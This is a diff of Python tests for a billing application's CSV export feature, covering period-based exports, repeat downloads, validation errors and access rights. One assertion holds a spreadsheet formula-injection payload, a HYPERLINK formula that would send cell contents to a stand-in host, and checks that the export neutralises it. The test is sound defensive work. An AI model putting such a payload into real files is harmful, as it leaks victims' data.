@@ -215,11 +215,58 @@ async def test_the_export_neutralises_formulas_and_keeps_amounts_as_numbers():
     async with client(b.app, FINANCE) as c:
         assert (await c.post(f"/api/invoices/{invoice['invoice_id']}/approve", json={"comment": ""})).status_code \
             == 200
-        export = await c.get("/api/export.csv")
+        made = await c.post("/api/exports", json={"period_from": "2026-04-01", "period_to": "2026-04-02"})
+        assert made.status_code == 201, made.text
+        export = await c.get(made.json()["download"].removeprefix("/billing"))
     rows = list(csv.reader(io.StringIO(export.content.decode("utf-8-sig")), delimiter=";"))
-    assert rows[0][:3] == ["invoice_id", "kind", "supplier_orgnr"]
-    assert rows[1][3] == "'" + '=HYPERLINK("http://x.example/?q="&A1,"klikk")' and rows[1][4] == "'=1+2"
-    assert rows[1][-2:] == ["3", "3000.00"]
+    assert rows[0][:3] == ["Eksport", "Faktura-id", "Type"] and rows[1][2] == "Faktura"
+    assert rows[1][4] == "'" + '=HYPERLINK("http://x.example/?q="&A1,"klikk")' and rows[1][5] == "'=1+2"
+    assert rows[1][-2:] == ["3", "3000,00"] and rows[1][12:14] == ["03.03.2026", "05.03.2026"]
+
+
+async def test_an_export_takes_each_line_once_and_gives_the_same_file_again():
+    b, number = await with_requisition()
+    first = await imported(b, number)
+    async with client(b.app, FINANCE) as c:
+        await c.post(f"/api/invoices/{first['invoice_id']}/approve", json={"comment": ""})
+        period = {"period_from": "2026-04-01", "period_to": "2026-04-02"}
+        due = (await c.get("/api/exports/due", params=period)).json()
+        assert due == {**period, "lines": 1, "total": "3000.00"}
+        one = (await c.post("/api/exports", json=period)).json()
+        assert (one["lines"], one["total"], one["created_by"]) == (1, "3000.00", "okonomi")
+        file = (await c.get(f"/api/exports/{one['id']}.csv")).content
+        assert (await c.get(f"/api/exports/{one['id']}.csv")).content == file
+        nothing = await c.post("/api/exports", json=period)
+        assert nothing.status_code == 409 and "ingenting nytt" in nothing.json()["detail"]
+    second = await imported(b, number, invoice_number="F-2", first_night="2026-03-06", last_night="2026-03-06",
+                            nights=1, amount="1000")
+    async with client(b.app, FINANCE) as c:
+        await c.post(f"/api/invoices/{second['invoice_id']}/approve", json={"comment": ""})
+        two = (await c.post("/api/exports", json={"period_from": "2026-03-01", "period_to": "2026-04-02"})).json()
+        rows = (await c.get(f"/api/exports/{two['id']}.csv")).content.decode("utf-8-sig").splitlines()
+        listed = (await c.get("/api/exports")).json()
+        assert (await c.get(f"/api/exports/{one['id']}.csv")).content == file
+    assert (two["lines"], two["total"]) == (1, "1000.00")
+    assert len([r for r in rows[1:] if r.startswith(two["id"][:8])]) == 1 and "F-2" in rows[1]
+    assert [e["id"] for e in listed] == [two["id"], one["id"]]
+
+
+async def test_a_bad_period_is_refused_with_a_problem_and_next_to_the_field():
+    b, _ = await with_requisition()
+    async with client(b.app, FINANCE) as c:
+        for period, field in ((("2026-04-02", "2026-04-01"), "period_from"), (("2026-04-01", "2099-01-01"),
+                                                                               "period_to")):
+            r = await c.post("/api/exports", json={"period_from": period[0], "period_to": period[1]})
+            assert r.status_code == 422 and r.headers["content-type"] == "application/problem+json"
+            assert r.json()["errors"][0]["loc"][-1] == field
+        assert (await c.post("/api/exports", json={"period_from": "1.4.2026", "period_to": "x"})).status_code == 422
+    async with client(b.app, FINANCE, page=True) as c:
+        page = await c.get("/export", params={"fra": "02.04.2026", "til": "01.04.2026"})
+        typo = await c.get("/export", params={"fra": "32.13.2026", "til": "01.04.2026"})
+    assert page.status_code == 422 and 'id="fra-feil"' in page.text and "før eller lik" in page.text
+    assert typo.status_code == 422 and "dd.mm.åååå" in typo.text and 'value="32.13.2026"' in typo.text
+    async with client(b.app, WORKER) as c:
+        assert (await c.get("/api/exports")).status_code == 403
 
 
 async def test_adjust_refuses_bad_amounts_and_comments_in_norwegian():
